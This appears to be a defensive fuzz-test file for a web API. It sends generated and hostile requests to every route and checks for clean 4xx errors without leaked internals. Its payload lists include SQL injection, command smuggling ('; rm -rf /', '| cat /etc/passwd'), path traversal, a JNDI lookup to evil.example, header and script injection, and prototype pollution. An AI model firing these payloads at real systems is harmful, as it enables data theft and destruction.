import path from "node:path";
import { eq, inArray } from "drizzle-orm";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { POST as signup } from "@/app/api/v1/signup/route";
import { POST as createKey } from "@/app/api/v1/tenants/[tenant]/api-keys/route";
import { POST as createRepository } from "@/app/api/v1/tenants/[tenant]/repositories/route";
import { API_ERROR_STATUS, ApiErrorBody } from "@/lib/contracts/api-error";
import type { ApiOperation } from "@/lib/contracts/api-operation";
import { apiOperations } from "@/lib/contracts/operations";
import { createSession } from "@/lib/server/auth/sessions";
import { auditLog, memberships, users } from "@/lib/server/db/schema";
import { findTenantBySlug } from "@/lib/server/tenancy/tenants";
import { call, ORIGIN } from "@/scripts/test-support/api-test-harness";
import { startClusterApiHarness, type ClusterApiHarness } from "@/scripts/test-support/cluster-api-harness";
import { arbitraryFromZod, queryArbitrary } from "@/scripts/test-support/zod-arbitrary";

// Every /api/v1 operation, driven through its real route handler against a migrated PostgreSQL database and the
// simulated cluster, with requests generated from its zod contract and with hostile ones: oversized, deeply
// nested, wrong types, broken JSON, odd content types, unicode and injection strings in bodies, query strings and
// path segments, sent by the tenant's owner (cookie and API key), a platform admin and nobody. Every answer must
// be a success the contract allows or a 4xx in the error shape, never a 500, never a stack trace or a server path.

/** Generated requests per operation; with the fixed hostile cases below this keeps the file near a minute here.
 *  APIARY_FUZZ_RUNS and APIARY_FUZZ_SEED explore further by hand (a failure prints the seed to replay). */
const NUM_RUNS = Number(process.env.APIARY_FUZZ_RUNS ?? 16);
const SEED = Number(process.env.APIARY_FUZZ_SEED ?? 20261204);
/** Requests in flight at once: the handlers mostly wait on PostgreSQL and the cluster. */
const CONCURRENCY = 8;

type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;
type Who = "owner" | "apiKey" | "admin" | "anonymous";

let env: ClusterApiHarness;
const ids = { owner: "", admin: "", developer: "" };
const real = { node: "" };
let apiKey = "";
let requestsTried = 0;
const statuses = new Map<number, number>();
const failures: string[] = [];

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "1; DROP TABLE users;--",
  "\" OR 1=1 --",
  "1' UNION SELECT password_hash FROM users--",
  "'; SELECT pg_sleep(5);--",
  '{"$gt":""}',
  "[$ne]=1",
  "$(reboot)",
  "`id`",
  "; rm -rf / #",
  "| cat /etc/passwd",
  "../../../../etc/passwd",
  "..%2F..%2F..%2Fetc%2Fpasswd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f",
  "..",
  ".",
  "/",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "\u202Eexe.txt",
  "\u0000",
  "a\u0000b",
  "\uD800",
  "\uDFFF\uD800",
  "\uFEFF",
  "𝕏🐝👩‍👩‍👧‍👦",
  "ﷺ",
  "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
  "\r\nSet-Cookie: apiary_session=stolen",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "1e309",
  "-1e309",
  "-0",
  "NaN",
  "Infinity",
  "-1",
  "0x1F",
  "9".repeat(400),
  "1.5",
  "",
  " ",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
  "a".repeat(10_000),
];

/** The strings tried in every path segment and query value one by one (the generated cases draw from all of them). */
const HOSTILE_SEGMENTS = ["' OR '1'='1", '{"$gt":""}', "$(reboot)", "../../../../etc/passwd", "..", ".", "/", "__proto__", "constructor", "\u202Eexe.txt", "\u0000", "a\u0000b", "\uD800", "𝕏🐝", "\r\nSet-Cookie: a=b", "1e309", "-0", "NaN", "0000-02-29T00:00:00Z", "9999-12-31T23:59:59.999Z", "", "9".repeat(400), "a".repeat(10_000)];

async function inParallel<T>(items: T[], limit: number, run: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(Array.from({ length: Math.min(limit, items.length) }, async () => {
    while (next < items.length) await run(items[next++]);
  }));
}

const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  "",
  [],
  {},
  [null],
  { $gt: "" },
  { $where: "sleep(1000)" },
  [[[[[[]]]]]],
  ...HOSTILE_STRINGS.slice(0, 30),
];

const ONE_MIB = 1024 * 1024;
/** Raw bodies no contract accepts: broken JSON, JSON a parser may choke on, and JSON meant to pollute prototypes. */
const HOSTILE_RAW_BODIES: { name: string; text: string }[] = [
  { name: "oversized (>1 MiB)", text: JSON.stringify({ name: "x".repeat(ONE_MIB + 16) }) },
  { name: "deeply nested arrays", text: "[".repeat(100_000) + "]".repeat(100_000) },
  { name: "deeply nested objects", text: '{"a":'.repeat(50_000) + "1" + "}".repeat(50_000) },
  { name: "truncated JSON", text: '{"name": "ada"' },
  { name: "single quotes", text: "{'name': 'ada'}" },
  { name: "bare word", text: "nul" },
  { name: "NaN literal", text: "NaN" },
  { name: "number overflowing to Infinity", text: "1e309" },
  { name: "negative zero", text: "-0" },
  { name: "lone surrogate string", text: '"\\ud800"' },
  { name: "NUL byte", text: "\u0000" },
  { name: "byte order mark", text: "\uFEFF{}" },
  { name: "duplicate keys", text: '{"a":1,"a":2}' },
  { name: "__proto__ pollution", text: '{"__proto__":{"polluted":"yes"},"name":"x"}' },
  { name: "constructor pollution", text: '{"constructor":{"prototype":{"polluted":"yes"}}}' },
  { name: "array at top level", text: "[]" },
  { name: "string at top level", text: '"hello"' },
  { name: "null", text: "null" },
  { name: "empty", text: "" },
];

const HOSTILE_CONTENT_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/evil+json", "application/jsonp"];

/** Path parameters that reach real objects (so handlers run past their lookups), by name and by path. */
function realParam(op: ApiOperation, name: string): string[] {
  switch (name) {
    case "tenant":
      // Ops actions get a tenant nobody else uses, so a generated suspend does not take the owner's tenant away.
      return op.path.startsWith("/api/v1/ops/") ? ["globex"] : ["acme"];
    case "name":
      return ["web"];
    case "repo":
      return ["web"];
    case "tag":
      return ["v1"];
    case "userId":
      return [ids.developer];
    case "node":
      return [real.node];
    case "provider":
      return ["test"];
    default:
      return ["00000000-0000-4000-8000-000000000000"];
  }
}

function paramNames(op: ApiOperation): string[] {
  return [...op.path.matchAll(/\{(\w+)\}/g)].map((match) => match[1]);
}

const modules = new Map<string, Record<string, Handler>>();
async function handlerOf(op: ApiOperation): Promise<Handler> {
  const file = path.join(process.cwd(), "app", op.path.replace(/^\//, "").replace(/\{(\w+)\}/g, "[$1]"), "route.ts");
  if (!modules.has(file)) modules.set(file, await import(/* @vite-ignore */ file));
  const handler = modules.get(file)![op.method];
  if (!handler) throw new Error(`${file} exports no ${op.method}`);
  return handler;
}

interface HostileRequest {
  who: Who;
  params: Record<string, string>;
  query: Record<string, string>;
  /** A JSON value to send, or raw text with a content type. */
  body?: { json: unknown } | { raw: string; contentType: string | null };
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;
/** In any answer: a stack frame or a path on the server's disk. */
const STACK_OR_PATH = /\n\s+at [\w.<>]+ \(|node_modules|\/work\/|\/srv\/|\.tsx?:\d+/;
/** In an error answer, also what a database, a socket or the runtime says about itself: messages are for people. */
const LEAKS = /\n\s+at [\w.<>]+ \(|node_modules|\/work\/|\/srv\/|\.tsx?:\d+|\bSQLSTATE\b|syntax error at or near|invalid input syntax for type|violates .* constraint|ECONNREFUSED|TypeError:|ReferenceError:/;

const sessions = new Map<Who, string>();
async function sessionFor(who: Who, op: ApiOperation): Promise<{ session?: string; apiKey?: string }> {
  if (who === "anonymous") return {};
  if (who === "apiKey") return { apiKey };
  const userId = who === "owner" ? ids.owner : ids.admin;
  // Sign-out ends the session it is sent with: it gets one of its own, so the fuzzer stays signed in.
  if (op.id === "signOut") return { session: (await createSession(userId, { ip: null, userAgent: "fuzz" })).token };
  if (!sessions.has(who)) sessions.set(who, (await createSession(userId, { ip: null, userAgent: "fuzz" })).token);
  return { session: sessions.get(who) };
}

function toUrl(op: ApiOperation, params: Record<string, string>, query: Record<string, string>): string {
  const encode = (value: string) => encodeURIComponent(value.replace(LONE_SURROGATE, "\uFFFD"));
  const pathname = op.path.replace(/\{(\w+)\}/g, (_, name: string) => encode(params[name] ?? ""));
  const search = new URLSearchParams(query).toString();
  return `${ORIGIN}${pathname}${search ? `?${search}` : ""}`;
}

/** Sends one request and records what is wrong with the answer, if anything. */
async function attempt(op: ApiOperation, input: HostileRequest, label: string): Promise<void> {
  const handler = await handlerOf(op);
  const credentials = await sessionFor(input.who, op);
  const headers: Record<string, string> = { "x-forwarded-for": "10.0.0.1", origin: ORIGIN, "user-agent": "hostile-input" };
  if (credentials.session) headers.cookie = `apiary_session=${credentials.session}`;
  if (credentials.apiKey) headers.authorization = `Bearer ${credentials.apiKey}`;
  let body: string | undefined;
  if (input.body && "json" in input.body) {
    headers["content-type"] = "application/json";
    body = JSON.stringify(input.body.json);
  } else if (input.body) {
    if (input.body.contentType) headers["content-type"] = input.body.contentType;
    body = input.body.raw;
  }
  const method = op.method;
  const request = new Request(toUrl(op, input.params, input.query), { method, headers, body: method === "GET" ? undefined : body });
  // Next hands a handler its path segments percent-decoded from the URL, where a lone surrogate cannot survive.
  const params = Object.fromEntries(Object.entries(input.params).map(([name, value]) => [name, value.replace(LONE_SURROGATE, "\uFFFD")]));
  requestsTried++;
  const where = `${method} ${op.path} [${label}, ${input.who}] params=${JSON.stringify(input.params).slice(0, 120)} query=${JSON.stringify(input.query).slice(0, 120)} body=${(body ?? "").slice(0, 120)}`;
  let response: Response;
  try {
    response = await handler(request, { params: Promise.resolve(params) });
  } catch (error) {
    failures.push(`${where}: the handler threw ${String(error).slice(0, 200)}`);
    return;
  }
  statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
  const type = response.headers.get("content-type") ?? "";
  const ok = [op.successStatus ?? 200, ...(op.alsoAnswers ?? [])];
  if (ok.includes(response.status)) {
    // Streams (live events, followed logs) stay open: a success is all there is to check.
    if (/event-stream|ndjson/.test(type)) await response.body?.cancel();
    else {
      const text = await response.text();
      if (STACK_OR_PATH.test(text)) failures.push(`${where}: ${response.status} body leaks internals: ${text.slice(0, 300)}`);
    }
    return;
  }
  const text = await response.text();
  if (response.status >= 500 || response.status < 400) {
    failures.push(`${where}: answered ${response.status}: ${text.slice(0, 300)}`);
    return;
  }
  let parsed: unknown;
  try {
    parsed = JSON.parse(text);
  } catch {
    failures.push(`${where}: ${response.status} is not JSON: ${text.slice(0, 200)}`);
    return;
  }
  const shape = ApiErrorBody.safeParse(parsed);
  if (!shape.success) failures.push(`${where}: ${response.status} is not the error shape: ${text.slice(0, 200)}`);
  else if (API_ERROR_STATUS[shape.data.error.code] !== response.status) failures.push(`${where}: code ${shape.data.error.code} with status ${response.status}`);
  if (LEAKS.test(text)) failures.push(`${where}: ${response.status} body leaks internals: ${text.slice(0, 300)}`);
}

function whoFor(op: ApiOperation): Who[] {
  if (op.access === "platform-admin") return ["admin", "admin", "owner", "anonymous"];
  if (op.access === "public") return ["anonymous", "anonymous", "owner"];
  return op.path.startsWith("/api/v1/tenants/{tenant}") ? ["owner", "owner", "apiKey", "anonymous"] : ["owner", "owner", "anonymous"];
}

/** A path segment: mostly one that names a real object, else a hostile or arbitrary string. */
function segmentArbitrary(op: ApiOperation, name: string): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...realParam(op, name)) },
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s !== "")) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 300 }) },
  );
}

/** Replaces one key of a generated object (or adds a new one) with a hostile value: the wrong-type case. */
function withHostileField(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.constantFrom(...HOSTILE_VALUES), fc.nat(), fc.boolean()).map(([value, hostile, index, replace]) => {
    if (!value || typeof value !== "object" || Array.isArray(value)) return hostile;
    const keys = Object.keys(value);
    const key = replace && keys.length > 0 ? keys[index % keys.length] : `extra${index % 3}`;
    return { ...value, [key]: hostile };
  });
}

function queryVariant(op: ApiOperation): fc.Arbitrary<Record<string, string>> {
  const hostile = fc.dictionary(fc.constantFrom("limit", "cursor", "q", "range", "target", "confirm", "follow", "tailLines", "sort", "status", "__proto__", "constructor"), fc.constantFrom(...HOSTILE_STRINGS), { maxKeys: 3 });
  if (!op.query) return fc.oneof(fc.constant({}), hostile);
  const valid = queryArbitrary(op.query);
  const mixed = fc.tuple(valid, hostile).map(([a, b]) => ({ ...a, ...b }));
  return fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: mixed }, { weight: 1, arbitrary: hostile });
}

function bodyVariant(op: ApiOperation): fc.Arbitrary<HostileRequest["body"]> {
  if (op.method === "GET") return fc.constant(undefined);
  const valid = op.body ? arbitraryFromZod(op.body) : fc.constant(undefined);
  return fc.oneof(
    { weight: 4, arbitrary: valid.map((json) => (json === undefined ? undefined : { json })) },
    { weight: 2, arbitrary: withHostileField(valid).map((json) => ({ json })) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((json) => ({ json })) },
  );
}

function requestArbitrary(op: ApiOperation): fc.Arbitrary<HostileRequest> {
  const params = fc.record(Object.fromEntries(paramNames(op).map((name) => [name, segmentArbitrary(op, name)])));
  return fc.record({ who: fc.constantFrom(...whoFor(op)), params, query: queryVariant(op), body: bodyVariant(op) }) as fc.Arbitrary<HostileRequest>;
}

function realParams(op: ApiOperation): Record<string, string> {
  return Object.fromEntries(paramNames(op).map((name) => [name, realParam(op, name)[0]]));
}

function privileged(op: ApiOperation): Who {
  return op.access === "platform-admin" ? "admin" : op.access === "public" ? "anonymous" : "owner";
}

beforeAll(async () => {
  env = await startClusterApiHarness({ images: [{ repository: "acme/web", tag: "v1" }], postgres: true });
  const password = "correct horse battery";
  for (const [email, tenantName] of [["owner@example.com", "Acme"], ["dev@example.com", "Globex"], ["admin@example.com", "Initech"]]) {
    const created = await call(signup, "POST", "/api/v1/signup", { body: { email, password, name: email.split("@")[0], tenantName } });
    expect(created.status).toBe(201);
  }
  const db = env.harness.database.db;
  const idOf = async (email: string) => (await db.select({ id: users.id }).from(users).where(eq(users.email, email)))[0].id;
  ids.owner = await idOf("owner@example.com");
  ids.developer = await idOf("dev@example.com");
  ids.admin = await idOf("admin@example.com");
  await db.update(users).set({ platformAdmin: true }).where(eq(users.id, ids.admin));
  const acme = (await findTenantBySlug("acme"))!;
  await db.insert(memberships).values({ tenantId: acme.id, userId: ids.developer, role: "developer" });
  const owner = await createSession(ids.owner, { ip: null, userAgent: "fuzz" });
  const key = await call(createKey, "POST", "/api/v1/tenants/acme/api-keys", { session: owner.token, params: { tenant: "acme" }, body: { name: "fuzz", role: "owner" } });
  expect(key.status).toBe(201);
  apiKey = key.body.key;
  // A real repository, node and workload, so the handlers that take them reach the database and the cluster
  // rather than stop at a 404.
  const repository = await call(createRepository, "POST", "/api/v1/tenants/acme/repositories", { session: owner.token, params: { tenant: "acme" }, body: { name: "web", public: true } });
  expect(repository.status, JSON.stringify(repository.body)).toBe(201);
  const nodes = await env.cluster.kubectl(["get", "nodes", "-o", "jsonpath={.items[0].metadata.name}"]);
  real.node = nodes.stdout.trim();
  expect(real.node).not.toBe("");
  const applied = await env.cluster.kubectl(["create", "deployment", "web", "-n", "t-acme", `--image=${env.registry.host}/acme/web:v1`, "--replicas=1"]);
  expect(applied.code, applied.stderr).toBe(0);
}, 180_000);

afterAll(async () => {
  await env?.stop();
});

describe("hostile input on every /api/v1 operation", () => {
  it("covers every operation of the contract with a route handler", async () => {
    expect(apiOperations.length).toBeGreaterThan(70);
    for (const op of apiOperations) expect(typeof (await handlerOf(op))).toBe("function");
  });

  it("keeps the audit record of a refused mutation whose path and body carry NUL bytes and lone surrogates", async () => {
    const { DELETE: revokeSession } = await import("@/app/api/v1/sessions/[id]/route");
    const { POST: createTenant } = await import("@/app/api/v1/tenants/route");
    const { session } = await sessionFor("owner", apiOperations[0]);
    const revoked = await call(revokeSession, "DELETE", "/api/v1/sessions/a%00b", { session, params: { id: "a\u0000b\uD800" }, headers: { "x-request-id": "nul-in-path" } });
    expect(revoked.status).toBe(422);
    expect(revoked.body.error.details).toEqual([{ field: "path.id", message: "must not contain NUL characters" }]);
    const created = await call(createTenant, "POST", "/api/v1/tenants", { session, body: { name: "Evil\u0000\uDC00 Corp" }, headers: { "x-request-id": "nul-in-body" } });
    expect(created.status).toBe(422);
    const rows = await env.harness.database.db.select().from(auditLog).where(inArray(auditLog.requestId, ["nul-in-path", "nul-in-body"]));
    expect(rows.map((row) => [row.requestId, row.action, row.result, row.target]).sort()).toEqual([
      ["nul-in-body", "createTenant", "failure", null],
      ["nul-in-path", "revokeSession", "failure", "id:a\uFFFDb\uFFFD"],
    ]);
  });

  it("answers generated and hostile bodies, queries and path segments with a success or a 4xx in the error shape, never a 500 or a stack trace", async () => {
    const started = performance.now();
    for (const op of apiOperations) {
      const opStarted = performance.now();
      const before = requestsTried;
      const cases: [HostileRequest, string][] = fc.sample(requestArbitrary(op), { numRuns: NUM_RUNS, seed: SEED }).map((input) => [input, "generated"]);
      const who = privileged(op);
      const params = realParams(op);
      if (op.method !== "GET") {
        // An operation without a body ignores one: a few show that it does, without re-running a slow action 26 times.
        const raws = op.body ? HOSTILE_RAW_BODIES : HOSTILE_RAW_BODIES.slice(0, 4);
        for (const raw of raws) cases.push([{ who, params, query: {}, body: { raw: raw.text, contentType: "application/json" } }, raw.name]);
        if (op.body) {
          // A valid body whose numbers are ones JSON can write but a double cannot hold, or can hold only oddly.
          const [valid] = fc.sample(arbitraryFromZod(op.body), { numRuns: 1, seed: SEED });
          for (const literal of ["1e309", "-1e309", "-0", "1e-400", "9007199254740993", "1".repeat(400)]) {
            const text = JSON.stringify(valid, (_, v) => (typeof v === "number" ? "@@NUMBER@@" : v)) ?? "null";
            if (text.includes("@@NUMBER@@")) cases.push([{ who, params, query: {}, body: { raw: text.replaceAll('"@@NUMBER@@"', literal), contentType: "application/json" } }, `numbers as ${literal.slice(0, 12)}`]);
          }
        }
        for (const contentType of op.body ? [...HOSTILE_CONTENT_TYPES, null] : [null]) cases.push([{ who, params, query: {}, body: { raw: '{"name":"x"}', contentType } }, `content-type ${contentType}`]);
      }
      for (const name of paramNames(op)) {
        for (const value of HOSTILE_SEGMENTS) cases.push([{ who, params: { ...params, [name]: value }, query: {} }, `path ${name}`]);
      }
      for (const key of Object.keys(op.query ? (queryShape(op.query) ?? {}) : {})) {
        for (const value of HOSTILE_SEGMENTS) cases.push([{ who, params, query: { [key]: value } }, `query ${key}`]);
      }
      await inParallel(cases, CONCURRENCY, ([input, label]) => attempt(op, input, label));
      if (process.env.APIARY_FUZZ_TIMING) console.log(`${op.id}: ${requestsTried - before} requests in ${Math.round(performance.now() - opStarted)} ms`);
    }
    const seconds = (performance.now() - started) / 1000;
    console.log(
      `hostile input: ${requestsTried} requests to ${apiOperations.length} operations (numRuns ${NUM_RUNS} generated per operation plus the fixed hostile cases, seed ${SEED}, ${CONCURRENCY} at a time) in ${seconds.toFixed(1)} s; answers by status: ${[...statuses].sort(([a], [b]) => a - b).map(([status, count]) => `${status}×${count}`).join(" ")}`,
    );
    expect(failures).toEqual([]);
    // JSON.parse makes "__proto__" an own key; nothing may have copied it onto Object.prototype along the way.
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  }, 600_000);
});

function queryShape(schema: unknown): Record<string, unknown> | undefined {
  const shape = (schema as { shape?: Record<string, unknown> }).shape;
  return shape && typeof shape === "object" ? shape : undefined;
}
